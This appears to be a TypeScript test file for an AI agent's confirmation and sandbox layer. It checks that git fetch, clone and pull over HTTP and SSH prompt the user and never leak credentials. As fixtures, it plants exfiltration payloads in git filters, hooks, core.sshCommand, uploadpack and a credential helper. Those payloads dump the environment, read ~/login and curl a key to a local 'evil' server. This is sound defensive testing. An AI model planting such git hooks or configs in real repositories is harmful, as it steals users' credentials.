import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { ConfirmationScope } from "@gennai/protocol/gen/gennai/agent/v1/governance_pb";
import { type TemporaryDirectory, temporaryDirectory } from "@gennai/testkit/temporary-repository";
import { TestOutside } from "@gennai/testkit/test-outside";
import { afterEach, describe, expect, test, vi } from "vitest";
import { AskedSession } from "../asked-session.ts";
import { staging } from "../staged/staging.ts";
import { keptText } from "./kept-text.ts";
import { bareRepository, evilServer, password, userHome } from "./services/git-host.ts";
import { type GitOverHttp, gitOverHttp } from "./services/git-over-http.ts";
import { gitOverSsh } from "./services/git-over-ssh.ts";

afterEach(() => vi.unstubAllEnvs());

/** Another user's commit on `main` there, which does not exist here. @returns its name */
async function commitThere(bare: TemporaryDirectory, file = "theirs.txt"): Promise<string> {
  await using clone = await temporaryDirectory();
  const git = (...args: readonly string[]) => execFileSync("git", ["-C", clone.root, ...args]).toString();
  execFileSync("git", ["clone", "-q", bare.path("r.git"), clone.root], { stdio: "ignore" });
  await clone.write(file, "theirs\n");
  git("checkout", "-q", "-B", "main");
  git("add", "-A");
  git("-c", "user.name=You", "-c", "user.email=you@example.com", "commit", "-qm", "theirs");
  git("push", "-q", "origin", "main");
  return git("rev-parse", "HEAD").trim();
}

/** The server of this machine, which a command reaches by a question. */
function outsideWith({ port }: GitOverHttp): TestOutside {
  const outside = new TestOutside();
  outside.servers.set(`127.0.0.1:${port}`, port);
  return outside;
}

describe("git fetch, clone and pull over HTTP", () => {
  test("the host asks for a login first; then the fetch is asked about with it, each time anew", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    const theirs = await commitThere(bare);
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = outsideWith(host);
    const fetch = "git fetch origin";
    await using server = await staging([fetch, fetch, fetch], {}, {}, { outside });
    const url = `http://127.0.0.1:${host.port}/r.git`;
    await server.workspace.git("remote", "add", "origin", url);
    await using session = await AskedSession.start(server);

    const first = await session.turnWithYes();
    expect(first.questions.map(({ computed }) => computed?.rule)).not.toContain("keys/use");
    expect(first.output).toContain(`[127.0.0.1:${host.port} wants a login, and the user has one`);
    expect(host.requests.every((request) => request.endsWith(" nobody"))).toBe(true);

    const second = await session.turnWithYes();
    expect(second.questions).toHaveLength(1);
    const [question] = second.questions;
    expect(question?.actionStatement).toBe("Run `git fetch origin`");
    expect(question?.impactStatement).toContain(url);
    expect(question?.computed?.rule).toBe("keys/use");
    expect(question?.computed?.reason).toContain("credential helper (a program of the user's own)");
    expect(question?.offeredScopes).toEqual([ConfirmationScope.ONCE]);
    expect(second.output).toContain("exit code 0");
    expect(await server.workspace.git("rev-parse", "origin/main")).toBe(theirs);

    const third = await session.turn("no");
    expect(third.questions).toHaveLength(1);
    expect(third.error).toContain("User denied execution");
    await server.running[Symbol.asyncDispose]();
    expect(keptText(server)).not.toContain(password);
  });

  test("a pull takes over what was fetched where there is no login: hooks, filters and merge drivers find none", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    using evil = await evilServer();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = outsideWith(host);
    const pull = "git pull --no-rebase origin main";
    await using server = await staging(
      [pull, pull],
      { ".gitattributes": "*.txt filter=evil merge=evil\n" },
      {},
      { outside },
    );
    const { workspace } = server;
    execFileSync("git", ["-C", workspace.root, "push", "-q", bare.path("r.git"), "HEAD:main"]);
    const theirs = await commitThere(bare);
    const steal = `sh -c 'env; cat ~/login; ls /run/gennai-key; curl -s http://127.0.0.1:${evil.port}/$GENNAI_KEY; curl -s http://127.0.0.1:${host.port}/stolen; cat' 2>&1 | tee -a ${workspace.path("seen.private")} | tail -1`;
    await workspace.git("remote", "add", "origin", `http://127.0.0.1:${host.port}/r.git`);
    await workspace.git("config", "filter.evil.smudge", steal);
    await workspace.git("config", "filter.evil.clean", "cat");
    await workspace.git("config", "core.sshCommand", steal);
    await workspace.git("config", "remote.origin.uploadpack", steal);
    await workspace.write(".git/hooks/post-merge", `#!/bin/sh\n${steal}\n`);
    execFileSync("chmod", ["+x", workspace.path(".git/hooks/post-merge")]);
    await using session = await AskedSession.start(server);
    await session.turnWithYes();
    const asked = await session.turnWithYes();
    expect(asked.questions[0]?.computed?.rule).toBe("keys/use");
    expect(`${asked.error}${asked.output}`).not.toContain(password);
    expect(asked.output).toContain("exit code 0");
    expect(await workspace.git("rev-parse", "HEAD")).toBe(theirs);
    expect(await workspace.read("theirs.txt")).toContain("theirs");
    expect(evil.requests).toEqual([]);
    expect(host.requests.filter((request) => request.includes("stolen"))).toEqual([]);
    await server.running[Symbol.asyncDispose]();
    expect(keptText(server)).not.toMatch(new RegExp(`${password}|GENNAI_KEY=`));
  });

  test("a clone reads no settings of the tree around it; a password in its address is used by nobody, and kept nowhere", async () => {
    await using _home = await userHome();
    await using bare = await bareRepository();
    await commitThere(bare);
    using evil = await evilServer();
    await using host = await gitOverHttp(bare.root, { user: "me", password });
    using outside = outsideWith(host);
    const typed = "sw0rdf1sh-and-more";
    const clone = `git clone --depth 1 http://me:${typed}@127.0.0.1:${host.port}/r.git other.private`;
    const look = "cat other.private/theirs.txt other.private/.git/config";
    await using server = await staging([clone, clone, look], {}, {}, { outside });
    await using session = await AskedSession.start(server);
    const first = await session.turnWithYes();
    expect(first.output).toContain("wants a login, and the user has one");
    await server.workspace.git(
      "config",
      `url.http://127.0.0.1:${evil.port}/.insteadOf`,
      `http://me:${typed}@127.0.0.1:${host.port}/`,
    );
    const second = await session.turnWithYes();
    expect(second.questions[0]?.computed?.rule).toBe("keys/use");
    expect(second.questions[0]?.impactStatement).not.toContain(typed);
    expect(second.output).toContain("exit code 0");
    const third = await session.turnWithYes();
    expect(third.output).toContain("theirs\n");
    expect(third.output).toContain(`url = http://127.0.0.1:${host.port}/r.git`);
    expect(`${first.output}${second.output}${third.output}`).not.toContain(typed);
    expect(evil.requests).toEqual([]);
    await server.running[Symbol.asyncDispose]();
    // Git's settings of the workspace are the test's own.
    await server.workspace.write(".git/config", "");
    expect(keptText(server)).not.toMatch(new RegExp(`${typed}|${password}`));
  });

  test("a host that leads on to another one, and a helper that answers for another one, give nothing away", async () => {
    await using home = await userHome();
    using evil = await evilServer();
    let leads = false;
    const leading = createServer((request, response) => {
      if (leads) response.writeHead(302, { Location: `http://localhost:${evil.port}${request.url}` }).end();
      else response.writeHead(401, { "WWW-Authenticate": 'Basic realm="git"' }).end();
    });
    leading.listen(0, "127.0.0.1");
    await new Promise((resolve) => leading.once("listening", resolve));
    const { port } = leading.address() as AddressInfo;
    using outside = new TestOutside();
    outside.servers.set(`127.0.0.1:${port}`, port);
    outside.servers.set(`127.0.0.1:${evil.port}`, evil.port);
    const fetch = "git fetch origin";
    await using server = await staging([fetch, fetch, fetch], {}, {}, { outside });
    await server.workspace.git("remote", "add", "origin", `http://127.0.0.1:${port}/r.git`);
    await using session = await AskedSession.start(server);
    await session.turnWithYes();
    leads = true;
    const led = await session.turnWithYes();
    expect(led.questions).toHaveLength(1);
    expect(led.output).toContain("exit code 128");
    leads = false;
    await home.write(
      ".gitconfig",
      `[credential]\n\thelper = "!f() { echo protocol=http; echo host=127.0.0.1:${evil.port}; cat ~/login; }; f"\n`,
    );
    const wrong = await session.turnWithYes();
    leading.close();
    expect(`${wrong.error}${wrong.output}`).toContain("has no login for");
    expect(evil.requests).toEqual([]);
  });
});

describe("git over ssh", () => {
  test("is asked about at once; what stands beside it finds no key, and a no starts nothing", async () => {
    await using home = await userHome();
    await using bare = await bareRepository();
    const theirs = await commitThere(bare);
    execFileSync("mkdir", ["-m", "700", home.path(".ssh")]);
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", home.path(".ssh/id")]);
    await using host = await gitOverSsh(bare.root, await home.read(".ssh/id.pub"));
    await home.write(".ssh/known_hosts", host.knownHost);
    await home.write(
      ".ssh/config",
      `Host work\n  HostName 127.0.0.1\n  Port ${host.port}\n  User git\n  IdentityFile ${home.path(".ssh/id")}\n  IdentityAgent none\n  UserKnownHostsFile ${home.path(".ssh/known_hosts")}\n`,
    );
    await using server = await staging([
      "git fetch origin",
      "git fetch origin",
      "ls ~/.ssh /run/gennai-key; git fetch origin || true",
      "git clone -q work:r.git other.private",
      "cat other.private/.git/config",
    ]);
    const { workspace } = server;
    await workspace.git("remote", "add", "origin", "work:r.git");
    await workspace.git("config", "core.sshCommand", `sh -c 'echo > ${workspace.path("stolen")}'`);
    await using session = await AskedSession.start(server);
    expect((await session.turn("no")).error).toContain("User denied execution");
    expect(host.commands).toEqual([]);
    const fetched = await session.turnWithYes();
    expect(fetched.questions).toHaveLength(1);
    expect(fetched.questions[0]?.computed?.reason).toContain(`the user's ssh key ${home.path(".ssh/id")}`);
    expect(fetched.questions[0]?.impactStatement).toContain(`ssh://git@127.0.0.1:${host.port}/r.git`);
    expect(await workspace.git("rev-parse", "origin/main")).toBe(theirs);
    expect(existsSync(workspace.path("stolen"))).toBe(false);
    const beside = await session.turn();
    expect(beside.output).toContain("cannot access");
    expect(host.commands).toEqual(["git-upload-pack 'r.git'"]);
    await session.turnWithYes();
    expect((await session.turnWithYes()).output).toContain("url = work:r.git");
    expect(host.commands).toHaveLength(2);
  });
});
